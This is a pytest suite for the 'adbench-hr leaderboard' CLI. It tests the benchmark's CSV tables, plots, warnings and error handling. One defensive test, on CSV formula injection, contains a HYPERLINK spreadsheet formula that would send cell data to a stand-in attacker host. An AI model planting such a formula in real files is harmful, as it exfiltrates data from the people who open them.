"""``adbench-hr leaderboard`` end to end: files written, CSV contents, stdout, and one-line errors."""

from __future__ import annotations

import json
import math
import os
import subprocess
import sys
from pathlib import Path

import cv2
import pandas as pd
import pytest

from adbench_hr.cli.main import main

PLOTS = ("aupro_vs_area.png", "cumulative_quartiles.png", "rho_ranking.png", "pro_curves_cat_a.png")


def _assert_png(path: Path, min_side: int = 300) -> None:
    image = cv2.imread(str(path))
    assert image is not None, path
    assert min(image.shape[:2]) >= min_side, (path, image.shape)


def _assert_one_line_error(err: str, *names: str) -> None:
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("error: ")
    assert "Traceback" not in err
    for name in names:
        assert name in lines[0]


def test_writes_tables_and_plots(results_dir: Path, tmp_path: Path, capsys) -> None:
    out = tmp_path / "board"
    rc = main(["leaderboard", str(results_dir), "--out", str(out)])
    captured = capsys.readouterr()
    assert rc == 0, captured.err

    table = pd.read_csv(out / "leaderboard.csv")
    assert len(table) == 6
    row = table[(table.method == "beta") & (table.category == "cat_b")].iloc[0]
    assert math.isnan(row["aupro_area_4096-16384@0.3"])  # null written as an empty cell
    assert row["n_defects_area_4096-16384"] == 0
    assert row["aupro_area_1-64@0.3"] == pytest.approx(0.2)
    raw = (out / "leaderboard.csv").read_text().splitlines()
    assert raw[0].startswith("method,dataset,protocol,category,")

    summary = pd.read_csv(out / "summary.csv")
    full = summary[summary.protocol == "full"]
    # beta's rho@0.3 is null in cat_b: its 0.6 is a mean over cat_a alone, so it is listed but not ranked.
    assert list(full.method) == ["alpha", "beta"]
    assert full["rank"].iloc[0] == 1 and math.isnan(full["rank"].iloc[1])
    assert list(full["complete"]) == [True, False]
    assert full.set_index("method").loc["beta", "rho@0.3"] == pytest.approx(0.6)
    assert full.set_index("method").loc["alpha", "n_categories"] == 2

    gap = pd.read_csv(out / "protocol_gap.csv")
    assert gap.set_index("area_bin").loc["64-256", "gap@0.3"] == pytest.approx(0.2)
    assert set(gap["lowres_defects"]) == {"resized"} and gap["n_lost_lowres"].isna().all()

    for name in PLOTS:
        _assert_png(out / name)
    # No dataset_root / maps_dir in these results: the qualitative panel is skipped with a warning.
    assert not (out / "qualitative_smallest_defects.png").exists()
    assert "warning: qualitative_smallest_defects.png skipped" in captured.err

    lines = captured.out.splitlines()
    header = next(i for i, line in enumerate(lines) if line.split()[:2] == ["rank", "method"])
    assert lines[header + 1].split()[:3] == ["1", "alpha", "synthetic"]
    assert lines[header + 2].split()[:3] == ["-", "beta", "synthetic"]
    assert "warning: beta (synthetic, full) has no rho@0.3 for cat_b" in captured.err
    assert ("warning: random backbone weights in beta (synthetic, full): these numbers only show that the "
            "pipeline runs and are not meaningful") in captured.err
    assert "leaderboard.csv" in captured.out


def test_original_defect_columns_in_the_csvs(original_results_dir: Path, tmp_path: Path, capsys) -> None:
    out = tmp_path / "board"
    rc = main(["leaderboard", str(original_results_dir), "--out", str(out)])
    assert rc == 0, capsys.readouterr().err
    table = pd.read_csv(out / "leaderboard.csv")
    full = table[table.protocol == "full"]
    assert full["orig_n_lost_defects"].isna().all()  # empty cells for full results, never 0
    low = table[(table.protocol == "lowres@256") & (table.category == "cat_b")].iloc[0]
    assert low["orig_n_lost_area_1-64"] == 4
    gap = pd.read_csv(out / "protocol_gap.csv").set_index("area_bin")
    assert gap.loc["1-64", "lowres_defects"] == "original"
    assert (gap.loc["1-64", "n_lost_lowres"], gap.loc["all", "gap@0.3"]) == (5, pytest.approx(0.05))
    _assert_png(out / "aupro_vs_area.png")
    assert "lack metrics.original_defects" not in capsys.readouterr().err


def test_a_lowres_label_with_and_without_original_defects_warns(helpers, original_results_dir: Path,
                                                                tmp_path: Path, capsys) -> None:
    # One lowres result of an older version: no original_defects block, while the other has one.
    older = helpers.make_result(**helpers.specs["alpha_lowres_cat_a"])
    helpers.write_result(original_results_dir / "alpha_lowres_cat_a.json", older)
    assert main(["leaderboard", str(original_results_dir), "--out", str(tmp_path / "board")]) == 0
    err = capsys.readouterr().err
    assert "synthetic, lowres@256: alpha/cat_a lack metrics.original_defects" in err


def test_aupro_above_1_by_an_older_versions_rounding_is_read_as_1_with_a_warning(helpers, tmp_path: Path,
                                                                                capsys) -> None:
    # Builds before d846c6d wrote a separating map's AUPRO as 1 + a few 1e-14; the leaderboard refused the file
    # as malformed and stopped. It now reads such values as 1 (what the engine writes today), naming the file.
    older = helpers.make_result("a", "c", protocol="lowres", aupro=1.0, original=helpers.original_defects(aupro=1.0))
    older["metrics"]["aupro"]["0.3"] = 1.000000000000031
    older["metrics"]["original_defects"]["aupro_by_area"][5]["aupro"]["0.3"] = 1 + 3.6e-14
    path = helpers.write_result(tmp_path / "r" / "old.json", older)
    newer = helpers.write_result(tmp_path / "r" / "new.json", helpers.make_result("b", "c", protocol="lowres"))
    assert main(["leaderboard", str(tmp_path / "r"), "--out", str(tmp_path / "board")]) == 0
    err = capsys.readouterr().err
    assert f"warning: {path}: AUPRO or rho values up to {1 + 3.6e-14!r}, above 1 by rounding (an older " \
           "adbench-hr's, or another tool's), read as 1" in err.splitlines()
    assert str(newer) not in err
    table = pd.read_csv(tmp_path / "board" / "leaderboard.csv").set_index("method")
    assert (table.loc["a", "aupro@0.3"], table.loc["a", "orig_aupro_area_16384-inf@0.3"]) == (1.0, 1.0)
    # Beyond rounding the file stays malformed.
    older["metrics"]["aupro"]["0.3"] = 1.0001
    helpers.write_result(path, older)
    assert main(["leaderboard", str(tmp_path / "r"), "--out", str(tmp_path / "board")]) == 2
    assert "malformed result file: metrics.aupro['0.3'] must lie in [0, 1], got 1.0001" in capsys.readouterr().err


def test_original_quartiles_of_an_older_version_warn(helpers, original_results_dir: Path, tmp_path: Path,
                                                    capsys) -> None:
    # Consistent files (the original-defect quartiles are the full result's): no warning.
    assert main(["leaderboard", str(original_results_dir), "--out", str(tmp_path / "board")]) == 0
    assert "quartile edges" not in capsys.readouterr().err
    # Before b7955fe a lowres result took its original-defect quartiles over the defects left at low resolution
    # only: with the small ones lost, its edges are larger than the full result's (20/150.5/900 px).
    spec = helpers.specs["alpha_lowres_cat_b"]
    older = helpers.make_result(**spec, original=helpers.original_defects(
        **helpers.original_specs["alpha_lowres_cat_b"], sizes=[150.5, 400.0, 900.0]))
    helpers.write_result(original_results_dir / "alpha_lowres_cat_b.json", older)
    assert main(["leaderboard", str(original_results_dir), "--out", str(tmp_path / "board")]) == 0
    lines = [line for line in capsys.readouterr().err.splitlines() if "quartile edges" in line]
    assert len(lines) == 1
    assert lines[0].startswith("warning: synthetic, lowres@256: alpha/cat_b (150.5/400/900 px, full 20/150.5/900 px)")
    assert "older adbench-hr" in lines[0] and "re-score" in lines[0] and "cat_a" not in lines[0]


def test_original_quartiles_compared_with_the_same_method_and_category(helpers, tmp_path: Path) -> None:
    from adbench_hr import leaderboard as lb

    original = helpers.original_defects(sizes=[1.0, 2.0, 3.0])
    files = [
        helpers.make_result("a", "c1", pro_thresholds="l2bt", sizes=[1.0, 2.0, 3.0]),  # full/l2bt: same edges
        helpers.make_result("a", "c1", protocol="lowres", original=original),
        helpers.make_result("b", "c1", sizes=[5.0, 6.0, 7.0]),  # another method's full result: not compared
        helpers.make_result("a", "c2", protocol="lowres", original=original),  # no full result: not compared
        helpers.make_result("b", "c1", protocol="lowres", original=helpers.original_defects(sizes=[5.0, 6.0, 7.5])),
    ]
    paths = [helpers.write_result(tmp_path / f"r{i}.json", result) for i, result in enumerate(files)]
    warnings: list[str] = []
    lb.warn_stale_original_quartiles(lb.leaderboard_table(lb.load_results(paths)), warnings.append)
    assert warnings == [
        "synthetic, lowres@256: b/c1 (5/6/7.5 px, full 5/6/7 px): metrics.original_defects quartile edges differ "
        "from the full-resolution result's (a file of an older adbench-hr, which left lost defects out, or other "
        "masks), so their orig_ quartile columns and plot are not the full-resolution quartiles; re-score them"]


def test_category_option_and_missing_curves(helpers, tmp_path: Path, capsys) -> None:
    files = [
        helpers.write_result(tmp_path / "r" / "a.json", helpers.make_result("a", "zeta", pro_curves=False)),
        helpers.write_result(tmp_path / "r" / "b.json", helpers.make_result("a", "eta", pro_curves=False)),
    ]
    out = tmp_path / "out"
    rc = main(["leaderboard", *map(str, files), "--out", str(out), "--category", "zeta"])
    captured = capsys.readouterr()
    assert rc == 0
    assert "pro_curves_zeta.png skipped" in captured.err
    assert not (out / "protocol_gap.csv").exists()  # a single protocol: no gap table
    _assert_png(out / "rho_ranking.png", min_side=200)

    rc = main(["leaderboard", str(tmp_path / "r"), "--out", str(out), "--category", "nope"])
    _assert_one_line_error(capsys.readouterr().err, "'nope'", "eta, zeta")
    assert rc == 2


def test_category_option_matches_a_name_recorded_in_another_unicode_form(helpers, tmp_path: Path, capsys) -> None:
    # A result computed on macOS records the folder name decomposed ("cafe" + U+0301); the name typed is composed.
    decomposed, composed = "cafe\u0301", "caf\u00e9"
    files = [helpers.write_result(tmp_path / "r" / f"{category}.json",
                                  helpers.make_result("a", category, pro_curves=False))
             for category in (decomposed, "zeta")]
    rc = main(["leaderboard", *map(str, files), "--out", str(tmp_path / "out"), "--category", composed])
    err = capsys.readouterr().err
    assert rc == 0, err
    assert "pro_curves_cafe.png skipped" in err  # the chosen category, not the default "zeta"


def test_the_default_category_is_the_first_alphabetically_of_all_methods(helpers, tmp_path: Path, capsys) -> None:
    files = [helpers.write_result(tmp_path / "r" / f"{method}_{category}.json",
                                  helpers.make_result(method, category, pro_curves=False))
             for method, category in (("a", "zeta"), ("b", "eta"), ("b", "zeta"))]  # a has no "eta"
    assert main(["leaderboard", *map(str, files), "--out", str(tmp_path / "out")]) == 0
    assert "pro_curves_eta.png skipped" in capsys.readouterr().err


def test_duplicate_key_names_both_files(helpers, results_dir: Path, tmp_path: Path, capsys) -> None:
    copy = helpers.write_result(tmp_path / "extra" / "again.json",
                                helpers.make_result(**helpers.specs["alpha_full_cat_a"]))
    rc = main(["leaderboard", str(results_dir), str(copy), "--out", str(tmp_path / "out")])
    err = capsys.readouterr().err
    assert rc == 2
    _assert_one_line_error(err, "again.json", "alpha_full_cat_a.json", "duplicate")


def _variant(helpers, path: Path, eval_size: int, thresholds: str) -> Path:
    return helpers.write_result(path, helpers.make_result(
        "m", "c", protocol="lowres", eval_size=eval_size, pro_thresholds=thresholds))


def test_protocol_variants_are_not_duplicates(helpers, tmp_path: Path, capsys) -> None:
    runs = tmp_path / "runs"
    helpers.write_result(runs / "full.json", helpers.make_result("m", "c"))
    helpers.write_result(runs / "full_l2bt.json", helpers.make_result("m", "c", pro_thresholds="l2bt"))
    _variant(helpers, runs / "low256.json", 256, "exact")
    _variant(helpers, runs / "low512_l2bt.json", 512, "l2bt")
    out = tmp_path / "out"
    rc = main(["leaderboard", str(runs), "--out", str(out)])
    captured = capsys.readouterr()
    assert rc == 0, captured.err
    table = pd.read_csv(out / "leaderboard.csv", keep_default_na=False)
    assert list(table["protocol"]) == ["full", "full/l2bt", "lowres@256", "lowres@512/l2bt"]
    assert list(table["eval_size"]) == ["", "", "256", "512"]
    assert list(table["pro_thresholds"]) == ["exact", "l2bt", "exact", "l2bt"]
    summary = pd.read_csv(out / "summary.csv")
    assert list(summary["rank"]) == [1, 1, 1, 1]  # each label is its own ranking
    gap = pd.read_csv(out / "protocol_gap.csv")
    assert set(zip(gap["protocol_full"], gap["protocol_lowres"], strict=True)) == {
        ("full", "lowres@256"), ("full/l2bt", "lowres@512/l2bt")}


def test_duplicate_protocol_variant_names_both_files(helpers, tmp_path: Path, capsys) -> None:
    runs = tmp_path / "runs"
    _variant(helpers, runs / "first.json", 512, "l2bt")
    _variant(helpers, runs / "other_size.json", 256, "l2bt")  # differs in eval_size: not a duplicate
    _variant(helpers, runs / "second.json", 512, "l2bt")
    rc = main(["leaderboard", str(runs), "--out", str(tmp_path / "out")])
    assert rc == 2
    _assert_one_line_error(capsys.readouterr().err, "first.json", "second.json", "duplicate",
                           "protocol='lowres@512/l2bt'")


def test_same_file_twice_is_not_a_duplicate(results_dir: Path, tmp_path: Path, capsys) -> None:
    file = results_dir / "full" / "alpha_full_cat_a.json"
    rc = main(["leaderboard", str(results_dir), str(file), "--out", str(tmp_path / "out")])
    assert rc == 0, capsys.readouterr().err


def test_results_saved_with_a_byte_order_mark_are_read_in_folders_and_by_name(results_dir: Path, tmp_path: Path,
                                                                              capsys) -> None:
    import shutil

    copy = tmp_path / "with_bom"
    shutil.copytree(results_dir, copy)
    for path in copy.rglob("*.json"):
        path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    assert main(["leaderboard", str(results_dir), "--out", str(tmp_path / "plain")]) == 0
    expected = (tmp_path / "plain" / "leaderboard.csv").read_text().replace(",../results/", ",../with_bom/")
    named = sorted(p for p in copy.rglob("*.json") if p.name not in ("config.json", "notes.json"))  # results only
    for inputs in ([copy], named):
        out = tmp_path / f"out{len(inputs)}"
        capsys.readouterr()
        assert main(["leaderboard", *map(str, inputs), "--out", str(out)]) == 0
        assert ": skipped, " not in capsys.readouterr().err  # no file passed over as unreadable
        assert (out / "leaderboard.csv").read_text() == expected


@pytest.mark.parametrize(
    "content, fragment",
    [
        ("{not json", "not valid JSON"),
        (json.dumps({"schema": "adbench-hr/result/v2", "method": "m"}), "unsupported result schema"),
        (json.dumps({"lr": 0.1}), "not an adbench-hr result file"),
        (json.dumps({"schema": "adbench-hr/result/v1", "method": "m", "dataset": "d", "category": "c",
                     "protocol": {"name": "full"}, "metrics": {"aupro": {"0.3": "x"}}}), "metrics.aupro"),
    ],
)
def test_bad_explicit_file_is_one_line_error(tmp_path: Path, capsys, content: str, fragment: str) -> None:
    bad = tmp_path / "bad_result.json"
    bad.write_text(content)
    rc = main(["leaderboard", str(bad), "--out", str(tmp_path / "out")])
    err = capsys.readouterr().err
    assert rc == 2
    _assert_one_line_error(err, str(bad), fragment)


def _v1(metrics: str, protocol: str = '{"name": "full"}') -> str:
    """A v1 result whose metrics (and protocol) are raw JSON text (NaN, Infinity and huge integers included)."""
    return ('{"schema": "adbench-hr/result/v1", "method": "m", "dataset": "d", "category": "c", '
            f'"protocol": {protocol}, "metrics": {metrics}}}')


@pytest.mark.parametrize(
    "content, fragment",
    [
        (_v1('{"aupro": {"0.3": 5.0}}'), "must lie in [0, 1]"),
        (_v1('{"aupro_cumulative": {"Q1": {"0.3": -1.0}}}'), "must lie in [0, 1]"),
        (_v1('{"p_auroc": NaN}'), "finite"),
        (_v1('{"i_auroc": Infinity}'), "finite"),
        (_v1('{"p_auroc": 1e400}'), "finite"),
        (_v1('{"n_defects": 1' + "0" * 400 + "}"), "finite"),
        (_v1('{"aupro": {"nan": 0.5}}'), "not an FPR limit"),
        (_v1('{"rho": {"-3": 0.5}}'), "not an FPR limit"),
        (_v1("{}", '{"name": "full", "fpr_limits": [NaN]}'), "fpr_limits"),
        ("[" * 100000 + "]" * 100000, "nested too deeply"),
    ],
)
def test_implausible_values_are_one_line_errors(tmp_path: Path, capsys, content: str, fragment: str) -> None:
    bad = tmp_path / "bad_result.json"
    bad.write_text(content)
    assert main(["leaderboard", str(bad), "--out", str(tmp_path / "out")]) == 2
    _assert_one_line_error(capsys.readouterr().err, str(bad), fragment)


def test_no_results_and_missing_path(tmp_path: Path, capsys) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    (empty / "other.json").write_text("{}")
    rc = main(["leaderboard", str(empty), "--out", str(tmp_path / "out")])
    assert rc == 2
    _assert_one_line_error(capsys.readouterr().err, "no result files", str(empty))

    rc = main(["leaderboard", str(tmp_path / "missing.json"), "--out", str(tmp_path / "out")])
    assert rc == 2
    _assert_one_line_error(capsys.readouterr().err, "missing.json", "no such file")


def test_a_path_that_is_a_broken_link_or_a_pipe_is_not_called_missing(tmp_path: Path, capsys) -> None:
    # Before: both were "no such file or folder", though `ls` lists them.
    link = tmp_path / "results"
    link.symlink_to("gone")
    assert main(["leaderboard", str(link), "--out", str(tmp_path / "out")]) == 2
    assert capsys.readouterr().err == f"error: {link}: no such file or folder (a broken symbolic link to gone)\n"
    if not hasattr(os, "mkfifo"):
        return
    pipe = tmp_path / "pipe.json"
    os.mkfifo(pipe)
    assert main(["leaderboard", str(pipe), "--out", str(tmp_path / "out")]) == 2
    assert capsys.readouterr().err == f"error: {pipe}: neither a file nor a folder (a device, pipe or socket)\n"


def test_folder_skips_other_versions_with_warning(helpers, results_dir: Path, tmp_path: Path,
                                                 capsys) -> None:
    helpers.write_result(results_dir / "future.json", {"schema": "adbench-hr/result/v9"})
    (results_dir / "broken.json").write_text("{")
    rc = main(["leaderboard", str(results_dir), "--out", str(tmp_path / "out")])
    err = capsys.readouterr().err
    assert rc == 0
    assert "future.json: skipped" in err and "broken.json: skipped" in err



def test_a_result_that_repeats_a_key_stops_the_leaderboard(helpers, results_dir: Path, tmp_path: Path,
                                                           capsys) -> None:
    # Another program's JSON with a repeated key is passed over in a folder like any other non-result.
    (results_dir / "config.json").write_text('{"a": 1, "a": 2}')
    assert main(["leaderboard", str(results_dir), "--out", str(tmp_path / "out")]) == 0
    capsys.readouterr()
    some = sorted(p for p in results_dir.rglob("*.json") if "adbench-hr/result/v1" in p.read_text())[0]
    text = some.read_text()
    assert '"method": ' in text
    some.write_text(text.replace('"method": ', '"method": "other", "method": ', 1))
    for where in (str(results_dir), str(some)):
        assert main(["leaderboard", where, "--out", str(tmp_path / "out")]) == 2
        _assert_one_line_error(capsys.readouterr().err, some.name, "the key 'method' appears twice in one object")


@pytest.mark.parametrize("content", [
    '{"runs": {"lr": 0.1, "lr": 0.2}, ',  # cut off after an object that repeats a key
    '{"lr": 0.1, "lr": 0.2} trailing',
    '{"schema": "adbench-hr/result/v1", "metrics": {"i_auroc": 0.5, "i_auroc": 0.6}, ',  # a damaged result
])
def test_invalid_json_in_a_folder_is_skipped_with_a_warning_also_where_it_repeats_a_key(
        results_dir: Path, tmp_path: Path, capsys, content: str) -> None:
    # docs/leaderboard.md: files in a folder that are not valid JSON are skipped with a warning. One that also
    # repeated a key (before the damage) was skipped without a word, as if it were another program's valid JSON.
    broken = results_dir / "broken.json"
    broken.write_text(content)
    assert main(["leaderboard", str(results_dir), "--out", str(tmp_path / "out")]) == 0
    assert [line for line in capsys.readouterr().err.splitlines() if str(broken) in line] == [
        f"warning: {broken}: skipped, not valid JSON"]
    assert main(["leaderboard", str(broken), "--out", str(tmp_path / "out")]) == 2  # named: an error, as before
    _assert_one_line_error(capsys.readouterr().err, str(broken), "appears twice in one object")


def test_a_folders_file_that_cannot_be_decoded_or_is_nested_too_deeply_is_skipped_with_a_warning(
        results_dir: Path, tmp_path: Path, capsys) -> None:
    # Named on the command line these files stop the leaderboard; found in a folder, they are skipped and said so.
    latin1 = results_dir / "latin1.json"
    latin1.write_bytes(b'{"note": "caf\xe9"}')
    deep = results_dir / "deep.json"
    deep.write_text("[" * 100000 + "]" * 100000)
    assert main(["leaderboard", str(results_dir), "--out", str(tmp_path / "out")]) == 0
    assert sorted(line for line in capsys.readouterr().err.splitlines() if str(results_dir) in line) == [
        f"warning: {deep}: skipped, JSON nested too deeply",
        f"warning: {latin1}: skipped, cannot read file (UnicodeDecodeError)"]
    assert len(pd.read_csv(tmp_path / "out" / "leaderboard.csv")) == 6  # the six results all the same
    assert main(["leaderboard", str(latin1), "--out", str(tmp_path / "out")]) == 2
    assert capsys.readouterr().err == (f"error: {latin1}: cannot read file (UnicodeDecodeError: 'utf-8' codec can't "
                                       "decode byte 0xe9 in position 13: invalid continuation byte)\n")


def test_out_is_a_file(results_dir: Path, tmp_path: Path, capsys) -> None:
    target = tmp_path / "file.txt"
    target.write_text("x")
    rc = main(["leaderboard", str(results_dir), "--out", str(target)])
    assert rc == 2
    _assert_one_line_error(capsys.readouterr().err, "file.txt", "not a folder")


def test_leaderboard_modules_do_not_import_torch() -> None:
    code = ("import sys, adbench_hr.leaderboard, adbench_hr.plots, adbench_hr.cli.leaderboard_cmd; "
            "sys.exit('torch' in sys.modules)")
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0


def test_a_second_leaderboard_into_the_same_folder_leaves_nothing_of_the_first(results_dir: Path, tmp_path: Path,
                                                                              capsys) -> None:
    out = tmp_path / "board"
    assert main(["leaderboard", str(results_dir), "--out", str(out), "--category", "cat_b"]) == 0
    assert (out / "protocol_gap.csv").is_file() and (out / "pro_curves_cat_b.png").is_file()
    (out / "notes.txt").write_text("mine")
    capsys.readouterr()
    # Now only the full-protocol results: no gap table, and curves of cat_a (the default category).
    assert main(["leaderboard", str(results_dir / "full"), "--out", str(out)]) == 0
    err = capsys.readouterr().err
    assert "warning: removed pro_curves_cat_b.png, protocol_gap.csv: earlier output" in err
    left = sorted(p.name for p in out.iterdir())
    assert "protocol_gap.csv" not in left and "pro_curves_cat_b.png" not in left
    assert "pro_curves_cat_a.png" in left and "notes.txt" in left
    assert not [name for name in left if name.endswith(".part")]  # written atomically


def test_an_interrupted_leaderboard_leaves_the_previous_files_whole(results_dir: Path, tmp_path: Path,
                                                                   monkeypatch) -> None:
    from adbench_hr import plots

    out = tmp_path / "board"
    assert main(["leaderboard", str(results_dir), "--out", str(out)]) == 0
    before = (out / "rho_ranking.png").read_bytes()

    def interrupted(figure, path, **kwargs):
        Path(path).write_bytes(b"\x89PNG half")
        raise KeyboardInterrupt

    monkeypatch.setattr(plots.Figure, "savefig", interrupted)
    assert main(["leaderboard", str(results_dir), "--out", str(out)]) == 130
    assert (out / "rho_ranking.png").read_bytes() == before
    assert not list(out.glob(".*.part"))


def test_the_cli_warns_about_a_method_run_with_mixed_seeds(helpers, tmp_path: Path, capsys) -> None:
    for category, seed in (("c1", 1), ("c2", 2)):
        result = helpers.make_result("alpha", category)
        result.update(seed=seed)
        helpers.write_result(tmp_path / "r" / f"{category}.json", result)
    assert main(["leaderboard", str(tmp_path / "r"), "--out", str(tmp_path / "board")]) == 0
    assert "warning: alpha (synthetic, full): its categories were run with different seeds" in capsys.readouterr().err


def test_names_that_spreadsheets_would_evaluate_are_written_as_text(tmp_path, helpers):
    # CSV formula injection: a submitted result's method (or file name) "=HYPERLINK(...)" is a live formula in
    # Excel or LibreOffice; the tables hold it with a leading ' (shown as text), and numbers as they are.
    import csv

    from adbench_hr.cli.main import main

    method = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    helpers.write_result(tmp_path / "r" / "@evil.json", helpers.make_result(method, "a", pro_curves=False))
    helpers.write_result(tmp_path / "r" / "good.json", helpers.make_result("-plain", "a", pro_curves=False))
    assert main(["leaderboard", str(tmp_path / "r"), "--out", str(tmp_path / "out")]) == 0
    for table in ("leaderboard.csv", "summary.csv"):
        with (tmp_path / "out" / table).open(newline="", encoding="utf-8") as handle:
            rows = list(csv.DictReader(handle))
        assert sorted(row["method"] for row in rows) == ["'-plain", f"'{method}"]
        assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def test_a_second_leaderboard_into_the_same_folder_stops_and_leaves_it_alone(results_dir: Path, tmp_path: Path,
                                                                             capsys) -> None:
    # Two builds of other results into one folder would leave the tables of one beside the plots of the other.
    import fcntl
    import os

    out = tmp_path / "board"
    out.mkdir()
    (out / "leaderboard.csv").write_text("an earlier build's table\n")
    handle = os.open(out, os.O_RDONLY)
    try:
        fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)  # as a build in another process holds it
        assert main(["leaderboard", str(results_dir), "--out", str(out)]) == 2
    finally:
        os.close(handle)
    _assert_one_line_error(capsys.readouterr().err, f"{out}: another adbench-hr leaderboard is writing")
    assert sorted(p.name for p in out.iterdir()) == ["leaderboard.csv"]
    assert (out / "leaderboard.csv").read_text() == "an earlier build's table\n"
    # Once that build has ended, the folder is free: no lock file was left in it.
    assert main(["leaderboard", str(results_dir), "--out", str(out)]) == 0
    assert len(pd.read_csv(out / "leaderboard.csv")) == 6
    assert not [p.name for p in out.iterdir() if p.name.startswith(".")]


def test_temporaries_that_killed_builds_left_are_cleared_and_no_others(results_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "board"
    out.mkdir()
    ours = [".summary.csv.k3x_9a0b.part", ".pro_curves_old_cat.png.abcdefgh.part"]
    others = [".notes.txt.abcdefgh.part", ".summary.csv.part", "summary.csv.abcdefgh.part"]
    for name in ours + others:
        (out / name).write_text("half written")
    (out / ".aupro_vs_area.png.0123abcd.part").mkdir()  # a folder of that name is a leftover too
    assert main(["leaderboard", str(results_dir), "--out", str(out)]) == 0
    left = sorted(p.name for p in out.iterdir() if p.name.endswith(".part"))
    assert left == sorted(others)


def test_a_folder_on_a_file_system_without_locks_is_built_with_a_warning(results_dir: Path, tmp_path: Path,
                                                                          monkeypatch, capsys) -> None:
    import errno
    import fcntl

    def no_locks(handle, operation):  # NFS mounted without a lock daemon
        raise OSError(errno.ENOLCK, "No locks available")

    monkeypatch.setattr(fcntl, "flock", no_locks)
    out = tmp_path / "board"
    assert main(["leaderboard", str(results_dir), "--out", str(out)]) == 0
    assert (f"warning: {out}: cannot lock (No locks available); a second leaderboard writing into this folder at "
            "the same time would not be stopped") in capsys.readouterr().err
    assert len(pd.read_csv(out / "leaderboard.csv")) == 6


def test_results_under_a_folder_named_in_another_encoding_are_listed_with_its_bytes_escaped(tmp_path, helpers,
                                                                                            capsys) -> None:
    # A folder named in Latin-1 (b"\xff") reaches Python as a lone surrogate, which UTF-8 cannot encode: the
    # source column shows it escaped, as messages do, instead of the CSV writer's traceback.
    import csv
    import os

    folder = tmp_path / os.fsdecode(b"r\xff")
    helpers.write_result(folder / "alpha.json", helpers.make_result("alpha", "a", pro_curves=False))
    assert main(["leaderboard", str(folder), "--out", str(tmp_path / "out")]) == 0, capsys.readouterr().err
    with (tmp_path / "out" / "leaderboard.csv").open(newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["source"] == "../r\\xff/alpha.json"


@pytest.mark.parametrize("name", ["summary.csv", "rho_ranking.png"])
def test_a_folder_where_an_output_file_goes_is_one_line_error(results_dir: Path, tmp_path: Path, capsys,
                                                               name: str) -> None:
    out = tmp_path / "board"
    (out / name / "kept").mkdir(parents=True)
    assert main(["leaderboard", str(results_dir), "--out", str(out)]) == 2
    # The standard results warn (an unranked entry, a random backbone) before the error.
    errors = [line for line in capsys.readouterr().err.splitlines() if not line.startswith("warning: ")]
    _assert_one_line_error("\n".join(errors), str(out / name), "a folder of that name exists")
    assert (out / name / "kept").is_dir()  # the folder is not replaced by the file


def test_an_out_folder_that_cannot_be_created_is_one_line_error(results_dir: Path, tmp_path: Path, capsys) -> None:
    out = tmp_path / ("x" * 300) / "board"  # a name longer than file systems allow (255 bytes)
    assert main(["leaderboard", str(results_dir), "--out", str(out)]) == 2
    _assert_one_line_error(capsys.readouterr().err, str(out), "File name too long")
    assert list(tmp_path.iterdir()) == [results_dir]


def test_results_of_several_adbench_hr_versions_get_one_warning(helpers, tmp_path, capsys) -> None:
    def written_by(version: str | None, method: str, category: str) -> Path:
        result = helpers.make_result(method, category)
        result["versions"] = {"python": "3.11.9"} if version is None else {"adbench-hr": version, "python": "3.11.9"}
        return helpers.write_result(tmp_path / "r" / f"{method}_{category}.json", result)

    same = [written_by("0.1.0", "a", "c"), written_by("0.1.0", "b", "c"), written_by(None, "a", "d")]
    assert main(["leaderboard", str(tmp_path / "r"), "--out", str(tmp_path / "one")]) == 0
    assert "versions" not in capsys.readouterr().err  # one version, and a file that names none
    newer = written_by("0.2.0", "b", "d")
    assert main(["leaderboard", str(tmp_path / "r"), "--out", str(tmp_path / "two")]) == 0
    lines = [line for line in capsys.readouterr().err.splitlines() if "adbench-hr versions" in line]
    assert lines == [f"warning: the results were written by 2 adbench-hr versions: 0.1.0 (2 files, e.g. "
                     f"{min(same[:2])}); 0.2.0 (1 file, e.g. {newer}); numbers of different versions may differ "
                     "for the same maps, so regenerate the older ones before publishing"]


def test_results_of_one_version_from_several_builds_get_one_warning(helpers, tmp_path, capsys) -> None:
    def written_by(version: str, fingerprint: str | None, method: str, category: str,
                   fitted_by: str | None = None) -> Path:
        result = helpers.make_result(method, category)
        result["versions"] = {"adbench-hr": version, "python": "3.11.9"}
        if fingerprint is not None:
            result["versions"]["adbench-hr-fingerprint"] = fingerprint
        result["provenance"] = {"fit_code_fingerprint": fitted_by or fingerprint}
        return helpers.write_result(tmp_path / "r" / f"{method}_{category}.json", result)

    def build_warnings(out: str) -> list[str]:
        assert main(["leaderboard", str(tmp_path / "r"), "--out", str(tmp_path / out)]) == 0
        return [line for line in capsys.readouterr().err.splitlines() if "builds of" in line or "versions:" in line]

    first = [written_by("0.1.0", "00aa", "a", "c"), written_by("0.1.0", "00aa", "b", "c")]
    written_by("0.1.0", None, "a", "d")  # a result of a build that recorded no fingerprint
    assert build_warnings("one") == []
    edited = written_by("0.1.0", "ffee", "b", "d")
    assert build_warnings("two") == [
        f"warning: the results were written or fitted by 2 builds of adbench-hr 0.1.0 (source fingerprints 00aa (2 "
        f"files, e.g. {min(first)}); ffee (1 file, e.g. {edited})): a change to its code between them may have "
        "changed numbers, so regenerate the older ones before publishing"
    ]
    edited.unlink()
    # A resumed run of an edited checkout: the build that wrote the result reused a model another one fitted.
    resumed = written_by("0.1.0", "00aa", "b", "d", fitted_by="ffee")
    assert build_warnings("resumed") == [
        f"warning: the results were written or fitted by 2 builds of adbench-hr 0.1.0 (source fingerprints 00aa (3 "
        f"files, e.g. {min(first)}); ffee (1 file, e.g. {resumed})): a change to its code between them may have "
        "changed numbers, so regenerate the older ones before publishing"
    ]
    written_by("0.2.0", "ffee", "c", "d")  # two versions: that warning alone, the builds are part of it
    warnings = build_warnings("three")
    assert len(warnings) == 1 and "2 adbench-hr versions" in warnings[0]
